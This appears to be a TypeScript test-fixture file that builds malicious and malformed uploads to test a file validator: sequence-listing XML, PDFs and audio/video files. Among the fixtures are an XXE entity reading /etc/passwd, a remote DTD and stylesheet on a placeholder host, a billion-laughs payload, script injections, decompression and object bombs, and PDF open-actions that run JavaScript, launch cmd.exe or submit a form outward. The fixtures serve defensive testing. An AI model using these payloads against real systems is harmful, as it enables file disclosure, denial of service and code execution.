import { deflateSync } from 'node:zlib'

import { EXTRA, pdfFile } from './uploadFiles.ts'

/** Malicious and malformed files, and valid ones for comparison. */

const head = '<?xml version="1.0" encoding="UTF-8"?>\n'
const publicDoctype =
  '<!DOCTYPE ST26SequenceListing PUBLIC "-//WIPO//DTD Sequence Listing 1.3//EN" "ST26SequenceListing_V1_3.dtd">\n'
interface Listed {
  total?: number
  length?: number
  letters?: string
  version?: string
}
const listing = (
  inside = '',
  { total = 1, letters = 'atgaccgtaa', length = letters.length, version = 'V1_3' }: Listed = {},
) =>
  `<ST26SequenceListing dtdVersion="${version}" fileName="a.xml" softwareName="WIPO Sequence" softwareVersion="2.3.0" productionDate="2026-01-05">
  <ApplicantFileReference>KG-P1</ApplicantFileReference><ApplicantName languageCode="id">Sari Wulandari</ApplicantName>
  <InventionTitle languageCode="id">Enzim tahan panas</InventionTitle><SequenceTotalQuantity>${total}</SequenceTotalQuantity>
  <SequenceData sequenceIDNumber="1"><INSDSeq><INSDSeq_length>${length}</INSDSeq_length><INSDSeq_moltype>DNA</INSDSeq_moltype>
    <INSDSeq_division>PAT</INSDSeq_division><INSDSeq_sequence>${letters}</INSDSeq_sequence></INSDSeq></SequenceData>${inside}
</ST26SequenceListing>\n`

export const sequences = {
  valid: Buffer.from(head + publicDoctype + listing()),
  withoutDoctype: Buffer.from(head + listing()),
  withMark: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(head + listing())]),
  externalEntity: Buffer.from(
    `${head}<!DOCTYPE ST26SequenceListing [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${listing('&x;')}`,
  ),
  remoteDefinition: Buffer.from(
    `${head}<!DOCTYPE ST26SequenceListing SYSTEM "http://contoh.example/evil.dtd">\n${listing()}`,
  ),
  publicAndOwn: Buffer.from(
    `${head}<!DOCTYPE ST26SequenceListing PUBLIC "-//WIPO//DTD Sequence Listing 1.3//EN" "ST26SequenceListing_V1_3.dtd" [<!ENTITY a "aa">]>\n${listing()}`,
  ),
  billionLaughs: Buffer.from(
    `${head}<!DOCTYPE ST26SequenceListing [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${`&a${i - 1 < 0 ? '' : i - 1};`.repeat(10)}">`).join('')}]>\n${listing('&a8;')}`,
  ),
  undeclaredEntity: Buffer.from(head + listing('&nbsp;')),
  wrongRoot: Buffer.from(`${head}<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
  notClosed: Buffer.from(head + listing().slice(0, 200)),
  deep: Buffer.from(head + listing('<INSDFeature>'.repeat(5000) + '</INSDFeature>'.repeat(5000))),
  notUtf8: Buffer.concat([Buffer.from(`${head}<ST26SequenceListing>`), Buffer.from([0xff, 0xfe, 0x41])]),
  latin1: Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${listing()}`),
  page: Buffer.from(
    head + listing('<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'),
  ),
  prefixedPage: Buffer.from(head + listing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')),
  bareScript: Buffer.from(head + listing('<script>alert(1)</script>')),
  styled: Buffer.from(`${head}<?xml-stylesheet type="text/xsl" href="http://contoh.example/a.xsl"?>\n${listing()}`),
  twoRoots: Buffer.from(head + listing() + listing()),
  unversioned: Buffer.from(head + listing('', { version: '' })),
  moreDeclared: Buffer.from(head + listing('', { total: 2 })),
  otherLength: Buffer.from(head + listing('', { length: 11 })),
  otherLetters: Buffer.from(head + listing('', { letters: 'augaccguaa' })),
}

/** An MP3 of `frames` frames of 128 kbit/s at 44.1 kHz, after a tag. */
export function mp3(frames = 20): Buffer {
  const frame = Buffer.alloc(417)
  frame.set([0xff, 0xfb, 0x90, 0x00])
  const tag = Buffer.concat([Buffer.from('ID3\x04\x00\x00\x00\x00\x00\x0a', 'latin1'), Buffer.alloc(10)])
  return Buffer.concat([tag, ...Array.from({ length: frames }, () => frame)])
}

/** A WAVE file of `samples` samples. */
export function wav(samples = 8000): Buffer {
  const format = Buffer.alloc(24)
  format.write('fmt ', 0, 'latin1')
  format.writeUInt32LE(16, 4)
  format.writeUInt16LE(1, 8)
  format.writeUInt16LE(1, 10)
  format.writeUInt32LE(8000, 12)
  format.writeUInt32LE(8000, 16)
  format.writeUInt16LE(1, 20)
  format.writeUInt16LE(8, 22)
  const data = Buffer.concat([chunkHead('data', samples), Buffer.alloc(samples, 128)])
  return Buffer.concat([chunkHead('RIFF', 4 + format.length + data.length), Buffer.from('WAVE'), format, data])
}

function chunkHead(name: string, length: number): Buffer {
  const bytes = Buffer.alloc(8)
  bytes.write(name, 0, 'latin1')
  bytes.writeUInt32LE(length, 4)
  return bytes
}

/** An MP4 of this brand with boxes of these types and sizes. */
export function mp4(
  brand = 'isom',
  boxes: [string, number][] = [
    ['moov', 200],
    ['mdat', 4000],
  ],
): Buffer {
  const box = (name: string, body: Buffer) => {
    const bytes = Buffer.alloc(8)
    bytes.writeUInt32BE(8 + body.length, 0)
    bytes.write(name, 4, 'latin1')
    return Buffer.concat([bytes, body])
  }
  return Buffer.concat([
    box('ftyp', Buffer.from(`${brand}\0\0\x02\0${brand}`, 'latin1')),
    ...boxes.map(([name, size]) => box(name, Buffer.alloc(size))),
  ])
}

/** The end record of every zip, docx and jar file. */
export const zip = Buffer.concat([
  Buffer.from('PK\x03\x04hello', 'latin1'),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
])
export const oldWordFile = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(600),
])

/** A PDF page whose text unpacks to `size` bytes. */
export function textBomb(size: number): Buffer {
  return streamed('/Filter /FlateDecode', deflateSync(Buffer.alloc(size, 32)))
}

const IMAGE = '/Type /XObject /Subtype /Image'

/** A small PDF whose dictionary states a picture of impossible size; `dictionary` holds further entries. */
export function hugePicturePdf(side = 60_000, dictionary = '/BitsPerComponent 8 /ColorSpace /DeviceRGB'): Buffer {
  return streamed(
    `${IMAGE} /Width ${side} /Height ${side} ${dictionary} /Filter /FlateDecode`,
    deflateSync(Buffer.alloc(1000)),
  )
}

/** The same with width and height in objects of their own. */
export function measuredPicturePdf(side: number): Buffer {
  const dictionary = `${IMAGE} /Width ${EXTRA + 1} 0 R /Height ${EXTRA + 1} 0 R /BitsPerComponent 1 /ColorSpace /DeviceGray`
  return pdfFile({ extra: [`<< ${dictionary} /Length 4 >>\nstream\n....\nendstream`, String(side)] })
}

/** A PDF with a JPEG of `side` × `side` pixels whose dictionary states a small size. */
export function understatedPicturePdf(side: number): Buffer {
  const head = [0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 0x11, 0]
  return streamed(
    `${IMAGE} /Width 100 /Height 100 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode`,
    Buffer.from([...head, 0xff, 0xd9]),
  )
}

/** A PDF with `count` objects in streams of a thousand. */
export function packedObjectBomb(count: number): Buffer {
  const head = Array.from({ length: 1000 }, (_, at) => `${10 + at} ${at * 2}`).join(' ')
  const packed = deflateSync(Buffer.from(`${head} ${'1 '.repeat(1000)}`)).toString('latin1')
  const dictionary = `<< /Type /ObjStm /N 1000 /First ${head.length + 1} /Filter /FlateDecode /Length ${packed.length} >>`
  return pdfFile({ extra: Array.from({ length: count / 1000 }, () => `${dictionary}\nstream\n${packed}\nendstream`) })
}

/** A PDF with a stream compressed twice. */
export function twicePackedPdf(): Buffer {
  const packed = deflateSync(deflateSync(Buffer.alloc(1_000_000)))
  return streamed('/Filter [ /FlateDecode /FlateDecode ]', packed)
}

function streamed(dictionary: string, packed: Buffer): Buffer {
  return pdfFile({
    extra: [`<< ${dictionary} /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`],
  })
}

/** A PDF with `count` empty objects. */
export function objectBomb(count: number): Buffer {
  const objects = '9 0 obj\n'.repeat(count)
  const file = pdfFile()
  return Buffer.concat([file.subarray(0, 9), Buffer.from(objects), file.subarray(9)])
}

function packedObjects(inside: string, dictionary = '/Type /ObjStm /N 1 /First 4'): string {
  const packed = deflateSync(Buffer.from(inside)).toString('latin1')
  return `<< ${dictionary} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`
}

/** A PDF with a link on its first page, and optional entries of the catalog. */
export function linkedPdf(action: string, catalog = '', extra: string[] = []): Buffer {
  const annotation = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`
  const plain = '/MediaBox [0 0 595 842]'
  return Buffer.from(pdfFile({ catalog, extra }).toString('latin1').replace(plain, `${plain} ${annotation}`), 'latin1')
}
export const packedJump = packedObjects('9 0 << /S /GoTo /D [3 0 R /Fit] >>')

/** PDFs with actions at opening. */
export const opens = {
  page: pdfFile({ catalog: '/OpenAction [3 0 R /Fit]' }),
  script: pdfFile({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
  program: pdfFile({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  otherFile: pdfFile({ catalog: '/OpenAction << /S /GoToR /F (lain.pdf) /D [0 /Fit] >>' }),
  otherFileElsewhere: pdfFile({
    catalog: `/OpenAction ${EXTRA} 0 R`,
    extra: ['<< /S /GoToR /F (lain.pdf) /D [0 /Fit] >>'],
  }),
  otherFileNext: pdfFile({
    catalog: `/OpenAction ${EXTRA} 0 R`,
    extra: ['<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F (lain.pdf) /D [0 /Fit] >> >>'],
  }),
  otherFileOnPage: pdfFile({ catalog: '/AA << /O << /S /GoToR /F (lain.pdf) /D [0 /Fit] >> >>' }),
  otherFilePacked: pdfFile({
    catalog: '/OpenAction 9 0 R',
    extra: [packedObjects('9 0 << /S /GoToR /F (lain.pdf) /D [0 /Fit] >>')],
  }),
  form: pdfFile({ catalog: `/AcroForm << /XFA ${EXTRA} 0 R >>`, extra: ['<< /Length 0 >>\nstream\n\nendstream'] }),
  submits: pdfFile({ catalog: '/OpenAction << /S /SubmitForm /F (http://contoh.example) >>' }),
  untypedPacked: pdfFile({
    extra: [packedObjects('9 0 << /S /JavaScript /JS (app.alert(1)) >>', '/N 1 /First 4')],
  }),
  onPrint: pdfFile({ catalog: '/AA << /WP << /S /JavaScript /JS (1) >> >>' }),
  attachment: pdfFile({
    catalog: '/AF [<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>]',
    extra: ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
  }),
}
